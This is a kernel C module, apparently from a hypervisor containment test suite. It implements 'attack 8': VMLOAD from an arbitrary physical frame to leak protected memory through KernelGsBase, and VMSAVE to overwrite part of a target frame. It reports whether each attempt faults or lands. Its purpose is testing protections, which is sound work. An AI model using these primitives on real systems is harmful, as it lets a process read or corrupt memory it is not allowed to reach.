// SPDX-License-Identifier: GPL-2.0
/*
 * VMLOAD and VMSAVE on a target frame (attack 8 of docs/containment.md). Unless
 * intercepted, both take a physical address in rax that no nested page table
 * translates (APM vol. 2 §15.5.2; without the virtual VMLOAD/VMSAVE feature): VMLOAD
 * from a protected frame leaks it into FS/GS/TR/LDTR and the syscall MSRs, VMSAVE
 * overwrites part of it.
 */
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <asm/desc.h>
#include <asm/msr-index.h>
#include <asm/svm.h>
#include "attack.h"
#include "probe.h"

#define KGSBASE_OFF 0x620 /* VMCB save area (0x400) + kernel_gs_base (0x220) */

/* What the frame holds at the VMCB kernel_gs_base slot, read via the direct map;
 * false if the host cannot read it. */
static bool out_expect(u64 pfn, u64 *w)
{
	int t = probe_read64(phys_to_virt(PFN_PHYS(pfn) + KGSBASE_OFF), w);

	if (t == PROBE_OK)
		out("expect=0x%llx ", *w);
	else
		out("expect=fault ");
	return t == PROBE_OK;
}

/* The current TR as VMCB fields, from its GDT descriptor (16 bytes in long mode). */
static void tr_seg(struct vmcb_seg *s)
{
	struct desc_ptr gdt;
	const u8 *d;
	u16 sel;

	asm volatile("str %0" : "=r"(sel));
	native_store_gdt(&gdt);
	d = (const u8 *)gdt.address + (sel & ~7);
	s->selector = sel;
	s->attrib = d[5] | ((d[6] & 0xf0) << 4);
	s->limit = d[0] | (d[1] << 8) | ((d[6] & 0x0f) << 16);
	s->base = d[2] | (d[3] << 8) | (d[4] << 16) | ((u64)d[7] << 24) |
		  ((u64)*(const u32 *)(d + 8) << 32);
}

/*
 * This CPU's VMLOAD state built by hand from MSRs and the GDT: the way back when
 * VMSAVE is refused (under vbh) but VMLOAD might not be. Kernel context only: FS/GS
 * selectors are null in the kernel and the base is all that counts in long mode;
 * refuses when an LDT is loaded.
 */
static bool vmload_image(struct vmcb_save_area *v)
{
	u16 ldt;

	asm volatile("sldt %0" : "=r"(ldt));
	if (ldt)
		return false;
	memset(v, 0, sizeof(*v));
	asm volatile("mov %%fs, %0" : "=r"(v->fs.selector));
	asm volatile("mov %%gs, %0" : "=r"(v->gs.selector));
	tr_seg(&v->tr);
	return probe_rdmsr(MSR_FS_BASE, &v->fs.base) == PROBE_OK &&
	       probe_rdmsr(MSR_GS_BASE, &v->gs.base) == PROBE_OK &&
	       probe_rdmsr(MSR_KERNEL_GS_BASE, &v->kernel_gs_base) == PROBE_OK &&
	       probe_rdmsr(MSR_STAR, &v->star) == PROBE_OK &&
	       probe_rdmsr(MSR_LSTAR, &v->lstar) == PROBE_OK &&
	       probe_rdmsr(MSR_CSTAR, &v->cstar) == PROBE_OK &&
	       probe_rdmsr(MSR_SYSCALL_MASK, &v->sfmask) == PROBE_OK &&
	       probe_rdmsr(MSR_IA32_SYSENTER_CS, &v->sysenter_cs) == PROBE_OK &&
	       probe_rdmsr(MSR_IA32_SYSENTER_ESP, &v->sysenter_esp) == PROBE_OK &&
	       probe_rdmsr(MSR_IA32_SYSENTER_EIP, &v->sysenter_eip) == PROBE_OK;
}

/* Save this CPU's VMLOAD state into scratch: VMSAVE if allowed (and not by_hand),
 * else by hand. */
static int save_own_state(struct vmcb *scratch, bool by_hand, const char **how)
{
	*how = "vmsave";
	if (!by_hand && probe_vmsave(__pa(scratch)) == PROBE_OK)
		return 0;
	*how = "by_hand";
	return vmload_image(&scratch->save) ? 0 : -EOPNOTSUPP;
}

/*
 * vmload PFN: load FS/GS/TR/LDTR and the syscall MSRs from the frame and read one of
 * them back: KernelGsBase = 8 bytes of the frame. The CPU makes the loaded base
 * canonical (QEMU sign-extends bit 47), so 48 bits are compared. Interrupts stay off
 * until this CPU's own state is loaded back: in between, GS.base is garbage.
 * vmload_byhand PFN restores from the hand-built image even where VMSAVE works, so a
 * bare run proves that way back too.
 */
static int vmload_run(u64 pfn, bool by_hand)
{
	struct vmcb *scratch = svm_page(SVM_SCRATCH);
	const char *how;
	unsigned long flags;
	u64 efer, kgs = 0, want = 0;
	int err, t = PROBE_OK;
	bool known;

	if (!scratch)
		return -ENOMEM;
	known = out_expect(pfn, &want);
	local_irq_save(flags);
	svm_on(&efer);
	err = save_own_state(scratch, by_hand, &how);
	if (!err) {
		t = probe_vmload(PFN_PHYS(pfn));
		if (t == PROBE_OK) {
			probe_rdmsr(MSR_KERNEL_GS_BASE, &kgs);
			probe_vmload(__pa(scratch));
		}
	}
	svm_restore(efer);
	local_irq_restore(flags);
	out("saved=%s ", how);
	if (err)
		out("result=error reason=cannot_save_own_state\n");
	else if (t != PROBE_OK)
		out("result=fault trap=%d\n", t);
	else
		out("result=loaded kgsbase=0x%llx match=%s\n", kgs,
		    !known ? "unknown" : ((kgs ^ want) << 16) ? "no" : "yes");
	return 0;
}

int vmload_attack(int argc, const u64 *a) { return vmload_run(a[0], false); }
int vmload_byhand(int argc, const u64 *a) { return vmload_run(a[0], true); }

/*
 * vmsave PFN: VMSAVE writes processor state into the frame. KernelGsBase is set to a
 * marker for the duration (harmless in kernel mode with interrupts off: only SWAPGS
 * reads it), so "landed" means the frame's kernel_gs_base slot holds the marker.
 */
int vmsave_attack(int argc, const u64 *a)
{
	const u64 marker = 0xffff8badc0de0000ull | (a[0] & 0xffff);
	unsigned long flags;
	u64 efer, kgs = 0, got = 0;
	int t;

	local_irq_save(flags);
	svm_on(&efer);
	probe_rdmsr(MSR_KERNEL_GS_BASE, &kgs);
	probe_wrmsr(MSR_KERNEL_GS_BASE, marker);
	t = probe_vmsave(PFN_PHYS(a[0]));
	probe_wrmsr(MSR_KERNEL_GS_BASE, kgs);
	svm_restore(efer);
	local_irq_restore(flags);
	out("marker=0x%llx ", marker);
	if (t != PROBE_OK)
		out("result=fault trap=%d\n", t);
	else if (!out_expect(a[0], &got))
		out("result=executed landed=unknown\n");
	else
		out("result=executed landed=%s\n", got == marker ? "yes" : "no");
	return 0;
}

/*
 * vmsave_roundtrip: the host's own use of VMSAVE/VMLOAD on a page of its RAM, as
 * kvm_amd makes it around every guest entry. VMSAVE into a fresh page must store this
 * CPU's FS and GS bases; a VMLOAD of that page with another FS base must load it, and
 * a VMLOAD of the saved state must bring both back. Only FS is changed (the kernel
 * does not use it; GS holds the per-CPU base), with interrupts off.
 */
int vmsave_roundtrip(int argc, const u64 *a)
{
	const u64 marker = 0x00007f5a5a5a0000ull;
	struct vmcb *page = (struct vmcb *)get_zeroed_page(GFP_KERNEL);
	u64 efer, fs = 0, gs = 0, fs_loaded = 0, fs_back = 0, gs_back = 0;
	int t1 = PROBE_OK, t2 = PROBE_OK, t3 = PROBE_OK;
	bool saved;
	unsigned long flags;

	if (!page) {
		out("result=error reason=no_memory\n");
		return 0;
	}
	local_irq_save(flags);
	svm_on(&efer);
	probe_rdmsr(MSR_FS_BASE, &fs);
	probe_rdmsr(MSR_GS_BASE, &gs);
	t1 = probe_vmsave(__pa(page));
	saved = t1 == PROBE_OK && page->save.fs.base == fs && page->save.gs.base == gs;
	if (saved) {
		page->save.fs.base = marker;
		t2 = probe_vmload(__pa(page));
		probe_rdmsr(MSR_FS_BASE, &fs_loaded);
		page->save.fs.base = fs;
		t3 = probe_vmload(__pa(page));
		probe_rdmsr(MSR_FS_BASE, &fs_back);
		probe_rdmsr(MSR_GS_BASE, &gs_back);
	}
	svm_restore(efer);
	local_irq_restore(flags);
	out("page=0x%llx fs=0x%llx gs=0x%llx ", (u64)PHYS_PFN(__pa(page)), fs, gs);
	if (t1 != PROBE_OK)
		out("result=fault trap=%d\n", t1);
	else if (!saved)
		out("result=wrong_save saved_fs=0x%llx saved_gs=0x%llx\n",
		    page->save.fs.base, page->save.gs.base);
	else if (t2 != PROBE_OK || t3 != PROBE_OK)
		out("result=fault trap=%d/%d\n", t2, t3);
	else
		out("result=%s loaded_fs=0x%llx restored_fs=0x%llx restored_gs=0x%llx\n",
		    fs_loaded == marker && fs_back == fs && gs_back == gs ? "roundtrip" : "mismatch",
		    fs_loaded, fs_back, gs_back);
	free_page((unsigned long)page);
	return 0;
}
